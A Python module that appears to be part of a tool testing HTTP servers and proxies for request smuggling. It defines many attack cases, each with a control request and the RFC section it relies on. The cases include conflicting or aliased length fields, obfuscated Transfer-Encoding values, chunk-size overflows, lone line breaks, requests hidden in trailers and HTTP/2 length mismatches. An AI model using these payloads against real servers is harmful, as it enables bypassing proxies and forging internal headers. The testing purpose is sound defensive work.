"""The attacks. Each has a control: the same request without the attack, which must arrive.

Braces are filled in: {id} is the case's own, so that cases are not mistaken for each other;
{length} is the number of bytes of the body. Bytes over 7F are written as in Latin-1."""

from dataclasses import dataclass

import http2

# The request that must not arrive, with a header that must not arrive either.
SECOND_FIELD = "X-Internal-Token: leak-{id}\r\n"
SECOND = f"GET /second-{{id}} HTTP/1.1\r\nHost: a\r\n{SECOND_FIELD}\r\n"
# A chunk whose first line is a request line too, if the body is not read as chunked.
_CHUNK = f"Host: a\r\n{SECOND_FIELD}\r\n"
# Every id has six digits.
_SIZE = len(_CHUNK.format(id="000000"))
CHUNKED_SECOND = f"{_SIZE:X};GET /second-{{id}} HTTP/1.1\r\n{_CHUNK}\r\n0\r\n\r\n"
GET = "GET /first-{id} HTTP/1.1"
POST = "POST /first-{id} HTTP/1.1"
# A chunked body up to its trailers.
DATA = "4\r\ndata\r\n0\r\n"
PLAIN = DATA + "\r\n"
TWO_TO_40 = str(2**40)
EMPTY_CHUNKED = "0\r\n\r\n"
_LENGTH = ("Host: a", "Content-Length: {length}")
_CHUNKED = ("Host: a", "Transfer-Encoding: chunked")


@dataclass(frozen=True)
class Attack:
    group: str
    name: str
    # What the standard says, by its section.
    rule: str
    lines: tuple
    control: tuple
    body: str = ""
    start: str = POST
    control_start: str = POST
    # That of the attack, where there is none.
    control_body: str = ""
    # A well-formed body, which shows how strict servers read the head: that of the attack has a
    # malformed extension.
    plain: str = ""
    # Tried without `--all` too.
    quick: bool = False
    # Whether the standard allows a server to read the second request as one.
    may_split: bool = False
    # Whether the standard allows the request. Then it arrives with all of its content, or is refused.
    is_legal: bool = False
    # Whether the second request is in trailers, so that no proxy may read or clean one there.
    is_in_trailers: bool = False
    # In frames of HTTP/2, where `start` has the method and the path.
    is_http2: bool = False
    # Of HTTP/2.
    trailers: tuple = ()

    @property
    def key(self):
        """What distinguishes the attack: some have the same name over HTTP/1 and HTTP/2."""
        return self.group, self.name


ALIASES, LENGTHS, ENCODINGS, CHUNKS, LINES, ROUTING, METHODS, ANSWERS, HEADS, HTTP2 = (
    "aliases of framing fields", "lengths", "transfer encodings", "chunks", "lines and bytes", "routing, nominations, trailers",
    "bodies of other methods", "early answers", "long heads", "from HTTP/2",
)

_OWN_NAME = "RFC 9110, 5.1: a field of its own, which frames nothing"
_BAD_LENGTH = "RFC 9112, 6.3, item 5: 400, then close"
_NOT_FINAL = "RFC 9112, 6.3, item 4: `chunked` is not last, so 400, then close"
_UNKNOWN = "RFC 9112, 6.1: 501 for a coding that the server does not know; else a chunked body"
_SPACE = "RFC 9110, 5.5: white space around a value is no part of it"
_NO_CONTENT = "RFC 9110, 9.3.6: no content; what follows the head is for the tunnel"
_DATA_COUNTS = "RFC 9113, 8.1.1: malformed where it differs from the length of all DATA"
_LIMIT = "RFC 9110, 5.4: a server may limit heads, and answers 4xx then; RFC 6585, 5: 431"
_CONTROL = "RFC 9110, 5.5: no byte of a value; refuse, or replace with a space"


def _alias(name, *lines, body=SECOND, **more):
    return Attack(ALIASES, name, _OWN_NAME, ("Host: a", *lines), _LENGTH, body, **more)


def _length(name, *lines, rule=_BAD_LENGTH, body=SECOND, **more):
    return Attack(LENGTHS, name, rule, ("Host: a", *lines), _LENGTH, body, **more)


def _encoding(value, rule, **more):
    lines = ("Host: a", f"Transfer-Encoding: {value}")
    name = f"`{ascii(value)[1:-1]}`" if value else "an empty encoding"
    return Attack(ENCODINGS, name, rule, lines, _CHUNKED, CHUNKED_SECOND, control_body=PLAIN, plain=PLAIN, **more)


def _chunk(name, rule, body, **more):
    return Attack(CHUNKS, name, rule, _CHUNKED, _CHUNKED, body, control_body=PLAIN, **more)


# A backend that takes this data for a request reads no chunks: no proxy in front of it can help.
A_CHUNK = "a request in a chunk"


def _line(name, rule, *lines, **more):
    """A hidden `Transfer-Encoding: chunked`, by which the body ends early."""
    return Attack(LINES, name, rule, lines, _LENGTH, EMPTY_CHUNKED + SECOND, **more)


def _method(method, rule, **more):
    """The same body with another method, by its length and in chunks."""
    start = f"{method} /first-{{id}} HTTP/1.1"
    common = {"start": start, "is_legal": True, **more}
    return [
        Attack(METHODS, f"`{method}` with a length", rule, _LENGTH, _LENGTH, SECOND, **common),
        Attack(METHODS, f"`{method}` with chunks", rule, _CHUNKED, _CHUNKED, CHUNKED_SECOND, control_body=PLAIN, plain=PLAIN, **common),
    ]


def _connect(name, *lines, body="", **more):
    start = "CONNECT first-{id}:80 HTTP/1.1"
    host = "Host: first-{id}:80"
    return Attack(METHODS, name, _NO_CONTENT, (host, *lines), _LENGTH, body, start, control_body=SECOND, **more)


def _early(name, rule, *lines, **more):
    """A path that applications answer before they have read the body."""
    return Attack(ANSWERS, name, rule, ("Host: a", *lines), _LENGTH, SECOND, "POST /early/first-{id} HTTP/1.1", **more)


def long_head(size):
    """A head of about `size` bytes, and a body."""
    lines = [f"X-Long-{number}: " + "y" * min(3900, size - 3900 * number) for number in range(-(-size // 3900))]
    return Attack(HEADS, f"a head of {size:,} bytes", _LIMIT, ("Host: a", *lines, "Content-Length: {length}"), _LENGTH, SECOND)


def _many_fields(count):
    lines = [f"X-{number}: y" for number in range(count - 2)]
    return Attack(HEADS, f"{count:,} fields", _LIMIT, ("Host: a", *lines, "Content-Length: {length}"), _LENGTH, SECOND)


def _long_target(size):
    start = f"POST /first-{{id}}/{'y' * size} HTTP/1.1"
    return Attack(HEADS, f"a target of {size:,} bytes", _LIMIT, _LENGTH, _LENGTH, SECOND, start)


def _http2(name, rule, *lines, start="POST /first-{id}", body=SECOND, **more):
    return Attack(
        HTTP2, name, rule, lines, ("content-length: {length}",), body, start, "POST /first-{id}", control_body=SECOND,
        is_http2=True, **more,
    )


ATTACKS = [
    _alias("`Content_Length: 0` last", "Content-Length: {length}", "Content_Length: 0", quick=True),
    _alias("`Content_Length: 0` first", "Content_Length: 0", "Content-Length: {length}", quick=True),
    _alias("`Content.Length: 0` first", "Content.Length: 0", "Content-Length: {length}", quick=True),
    _alias("`Transfer_Encoding`", "Transfer_Encoding: chunked", "Content-Length: {length}", body=EMPTY_CHUNKED + SECOND, quick=True),
    _alias("`Transfer.Encoding`", "Transfer.Encoding: chunked", "Content-Length: {length}", body=EMPTY_CHUNKED + SECOND),
    _alias("`Content_Length` alone", "Content_Length: {length}", may_split=True),
    _length("two lengths, 0 first", "Content-Length: 0", "Content-Length: {length}"),
    _length("two lengths, 0 last", "Content-Length: {length}", "Content-Length: 0"),
    _length("`0, N`", "Content-Length: 0, {length}"),
    _length("`+N`", "Content-Length: +{length}"),
    _length("`0N`", "Content-Length: 0{length}", rule="RFC 9110, 8.6: digits, so N"),
    _length("a TAB before N", "Content-Length:\t{length}", rule=_SPACE, is_legal=True, quick=True),
    _length("a space after N", "Content-Length: {length} ", rule=_SPACE, is_legal=True),
    _length("a TAB after N", "Content-Length: {length}\t", rule=_SPACE, is_legal=True),
    _length(
        "length and chunked", "Content-Length: {length}", "Transfer-Encoding: chunked", body=EMPTY_CHUNKED + SECOND,
        rule="RFC 9112, 6.3, item 3: an error, or chunked; a proxy removes the length", may_split=True,
    ),
    _encoding("gzip, chunked", _UNKNOWN, quick=True),
    _encoding("chunked, identity", _NOT_FINAL, quick=True),
    _encoding("chunked\xa0", _NOT_FINAL, quick=True),
    _encoding("chunked ", _SPACE, is_legal=True, quick=True),
    _encoding("chunked\t", _SPACE, is_legal=True),
    _encoding("\tchunked", _SPACE, is_legal=True),
    _encoding("xchunked", _NOT_FINAL),
    _encoding("identity", _NOT_FINAL),
    _encoding("identity, chunked", _UNKNOWN),
    _encoding("gzip", _NOT_FINAL),
    _encoding("", _NOT_FINAL),
    _encoding("chunked, chunked", "RFC 9112, 6.1: a sender must not apply chunked twice"),
    _encoding("chunked;q=1", "RFC 9112, 7.1: chunked has no parameters; an error"),
    _encoding(",chunked", "RFC 9110, 5.6.1.2: an empty element is ignored, so chunked"),
    _encoding('"chunked"', _NOT_FINAL),
    _encoding("\x0bchunked", _CONTROL),
    _encoding("chunked\x00", _CONTROL),
    Attack(
        ENCODINGS,
        "`chunked` in HTTP/1.0",
        "RFC 9112, 6.1: framing is faulty; close after the answer",
        ("Host: a", "Connection: keep-alive", "Transfer-Encoding: chunked"),
        ("Host: a", "Connection: keep-alive", "Transfer-Encoding: chunked"),
        CHUNKED_SECOND,
        start="POST /first-{id} HTTP/1.0",
        control_body=PLAIN,
        plain=PLAIN,
        quick=True,
    ),
    _chunk("a line feed in an extension", "RFC 9112, 7.1.1: no byte of an extension", "0;\n\r\n" + SECOND),
    _chunk("a carriage return in an extension", "RFC 9112, 2.2: invalid, or a space", "0;\r\r\n" + SECOND, quick=True),
    _chunk(
        A_CHUNK, "RFC 9112, 7.1: data", f"{len(SECOND.format(id='000000')):X}\r\n{SECOND}\r\n0\r\n\r\n", is_legal=True,
        quick=True,
    ),
    _chunk("size `0x4`", "RFC 9112, 7.1: hexadecimal digits alone", "0x4\r\ndata\r\n0\r\n\r\n"),
    _chunk("size over 64 bits", "RFC 9112, 7.1: no overflow", "10000000000000004\r\ndata\r\n0\r\n\r\n"),
    _chunk("data longer than its size", "RFC 9112, 7.1: CRLF ends the data", "2\r\ndata\r\n0\r\n\r\n"),
    _chunk("a size of 16 digits", "RFC 9112, 7.1: zeros may lead, so 4", "0000000000000004\r\ndata\r\n0\r\n\r\n", is_legal=True),
    _chunk("size 2^31", "RFC 9112, 7.1: data of that length", "80000000\r\n" + SECOND),
    _chunk("size 2^32", "RFC 9112, 7.1: data of that length", "100000000\r\n" + SECOND),
    _chunk("size 2^63", "RFC 9112, 7.1: data of that length, or an error", "8000000000000000\r\n" + SECOND, quick=True),
    _chunk("size 2^64 - 1", "RFC 9112, 7.1: data of that length, or an error", "FFFFFFFFFFFFFFFF\r\n" + SECOND),
    _chunk("white space before an extension", "RFC 9112, 7.1.1: legal", "4 ;a=b\r\ndata\r\n0\r\n\r\n", is_legal=True),
    _chunk("an empty line before a chunk", "RFC 9112, 7.1: not a size", "\r\n4\r\ndata\r\n0\r\n\r\n"),
    _chunk(
        "`GET: /second` in the trailers", "RFC 9112, 7.1.2: a field, which may be dropped",
        DATA + f"GET: /second-{{id}} HTTP/1.1\r\nHost: a\r\n{SECOND_FIELD}\r\n", is_in_trailers=True,
    ),
    _chunk(
        "`X: /second` in the trailers", "RFC 9112, 7.1.2: a field, which may be dropped",
        DATA + f"X: /second-{{id}} HTTP/1.0\r\n{SECOND_FIELD}\r\n", is_in_trailers=True, quick=True,
    ),
    _line("space before a colon", "RFC 9112, 5.1: 400", "Host: a", "Content-Length: {length}", "Transfer-Encoding : chunked"),
    _line(
        "a folded line", "RFC 9112, 5.2: 400, or a space for the fold", "Host: a", "Content-Length: {length}",
        "Transfer-Encoding:\r\n chunked", may_split=True,
    ),
    _line(
        "space before the first field", "RFC 9112, 2.2: invalid, or the line is ignored", " Transfer-Encoding: chunked", "Host: a",
        "Content-Length: {length}",
    ),
    _line(
        "a line feed alone", "RFC 9112, 2.2: a recipient may take it for the end of a line", "Host: a",
        "Content-Length: {length}", "X: y\nTransfer-Encoding: chunked", may_split=True,
    ),
    _line(
        "a carriage return alone", "RFC 9112, 2.2: invalid, or a space", "Host: a", "Content-Length: {length}",
        "X: y\rTransfer-Encoding: chunked",
    ),
    Attack(
        ROUTING, "two hosts", "RFC 9112, 3.2: 400", ("Host: a", "Host: b"), ("Host: a",), start=GET, control_start=GET, quick=True,
    ),
    Attack(
        ROUTING, "another authority in the target", "RFC 9112, 3.2.2: the target counts; a proxy replaces `host`", ("Host: a",),
        ("Host: a",), start="GET http://b/first-{id} HTTP/1.1", control_start=GET, quick=True,
    ),
    Attack(
        ROUTING, "an authority in the target, no host", "RFC 9112, 3.2: 400", (), ("Host: a",), start="GET http://a/first-{id} HTTP/1.1",
        control_start=GET,
    ),
    Attack(
        ROUTING, "`Connection: content-length`", "RFC 9110, 7.6.1: a sender must not nominate what is for all recipients",
        (*_LENGTH, "Connection: content-length"), _LENGTH, SECOND,
    ),
    Attack(
        ROUTING, "`Connection: transfer-encoding`", "RFC 9110, 7.6.1: a sender must not nominate what is for all recipients",
        (*_CHUNKED, "Connection: transfer-encoding"), _CHUNKED, CHUNKED_SECOND, control_body=PLAIN, plain=PLAIN,
    ),
    Attack(
        ROUTING, "`Expect: y 100-continue`", "RFC 9110, 10.1.1: 417, or ignored", (*_LENGTH, "Expect: y 100-continue"), _LENGTH, SECOND,
    ),
    Attack(
        ROUTING,
        "trailers that frame, route, authorize",
        "RFC 9110, 6.5.1: a sender must not generate them; a recipient ignores them, or forwards them apart",
        (*_CHUNKED, "Trailer: host, content-length"),
        _CHUNKED,
        DATA + "Host: b\r\nContent-Length: 0\r\nAuthorization: b\r\nX-Internal-Token: forged\r\n\r\n",
        control_body=DATA + "X-Sum: 1\r\n\r\n",
        quick=True,
    ),
    Attack(
        ROUTING, "a status line", "RFC 9112, 3: an invalid request line, so 400", ("Host: a",), ("Host: a",),
        start="HTTP/1.1 200 first-{id}", control_start=GET, quick=True,
    ),
    *_method("GET", "RFC 9110, 9.3.1: no defined meaning, but framed as with every method", quick=True),
    *_method("HEAD", "RFC 9110, 9.3.2: no defined meaning, but framed as with every method"),
    *_method("OPTIONS", "RFC 9110, 9.3.7: content is allowed"),
    *_method("QUERY", "RFC 10008: content is the query"),
    _connect("`CONNECT` with a length", "Content-Length: {length}", body=SECOND, quick=True),
    _connect("`CONNECT` with chunks", "Transfer-Encoding: chunked", body=CHUNKED_SECOND),
    _connect("`CONNECT` with `Content-Length: 0`", "Content-Length: 0"),
    _early("an early answer", "RFC 9112, 9.3: read the body or close", "Content-Length: {length}"),
    _early("an early answer to 2^40 bytes", "RFC 9112, 9.3: read the body or close", f"Content-Length: {TWO_TO_40}", quick=True),
    _early(
        "an early answer to `Expect`", "RFC 9110, 10.1.1: the body may follow or not; read it or close", "Content-Length: {length}",
        "Expect: 100-continue",
    ),
    Attack(
        ANSWERS, "`Expect: 100-continue`", "RFC 9110, 10.1.1: 100 or a final status, then the body", (*_LENGTH, "Expect: 100-continue"),
        _LENGTH, SECOND, is_legal=True, quick=True,
    ),
    Attack(
        METHODS, "an upgrade with a body", "RFC 9110, 7.8: the body comes first, then the other protocol",
        ("Host: a", "Connection: upgrade", "Upgrade: h2c", "Content-Length: {length}"), _LENGTH, SECOND, is_legal=True,
    ),
    # uWSGI reads 4,096 bytes, and lays the fields out again in as many: the first of these fits once.
    *map(long_head, (3_850, 5_000, 9_000, 17_000, 70_000)),
    *map(_many_fields, (130, 1_100)),
    _long_target(2_100),
    _http2("two equal lengths", _DATA_COUNTS, "content-length: {length}", "content-length: {length}", quick=True),
    _http2("`0N`", _DATA_COUNTS, "content-length: 0{length}"),
    _http2("an empty length", _DATA_COUNTS, "content-length: ", quick=True),
    _http2("a length of 0, and DATA", _DATA_COUNTS, "content-length: 0", quick=True),
    _http2("a length over the DATA", _DATA_COUNTS, "content-length: 1{length}"),
    _http2("`content_length: 0`", _OWN_NAME, "content-length: {length}", "content_length: 0", quick=True),
    _http2(
        "`transfer-encoding: chunked`", "RFC 9113, 8.2.2: malformed", "transfer-encoding: chunked", body=EMPTY_CHUNKED + SECOND,
    ),
    _http2(
        "a line break in a value", "RFC 9113, 8.2.1: malformed", "content-length: {length}", "x: y\r\nTransfer-Encoding: chunked",
        body=EMPTY_CHUNKED + SECOND,
    ),
    _http2("a host beside another authority", "RFC 9113, 8.3.1: malformed", "content-length: {length}", "host: b"),
    _http2("`GET` with DATA, without a length", "RFC 9113, 8.1.1: framed by DATA", start="GET /first-{id}", is_legal=True, quick=True),
    _http2("`HEAD` with DATA, without a length", "RFC 9113, 8.1.1: framed by DATA", start="HEAD /first-{id}", is_legal=True),
    _http2(
        "`x: /second` in the trailers", "RFC 9113, 8.1: fields", trailers=("x: /second-{id} HTTP/1.0", "x-internal-token: leak-{id}"),
        body="data", is_in_trailers=True, quick=True,
    ),
]


def control_of(attack):
    """What distinguishes controls: many attacks have the same."""
    return attack.control_start, attack.control, attack.control_body or attack.body, attack.is_http2


def texts(attack, case_id, is_control=False):
    """The lines of the head, the body and the trailers.

    The head has a listed field in two spellings, and one that is not listed."""
    start, lines = (attack.control_start, attack.control) if is_control else (attack.start, attack.lines)
    body = (is_control and attack.control_body or attack.body).format(id=case_id)
    common = ["X-Internal-Token: forged", "X_Internal_Token: forged", "X-Kept: {id}"]
    if attack.is_http2:
        method, path = start.split(" ")
        start = [f":method: {method}", f":path: {path}", ":scheme: http", ":authority: a"]
        common = [line.lower() for line in common]
    else:
        start = [start]
    filled = lambda lines: [line.replace("{id}", case_id).replace("{length}", str(len(body))) for line in lines]
    return filled([*start, *lines, *common]), body, [] if is_control else filled(attack.trailers)


def request(attack, case_id, is_control):
    """Head and body as bytes; the frames of HTTP/2 are the head and what follows it."""
    lines, body, trailers = texts(attack, case_id, is_control)
    if attack.is_http2:
        head, *rest = http2.frames(lines, body.encode("latin-1"), trailers)
        return head, b"".join(rest)
    return "\r\n".join([*lines, "", ""]).encode("latin-1"), body.encode("latin-1")
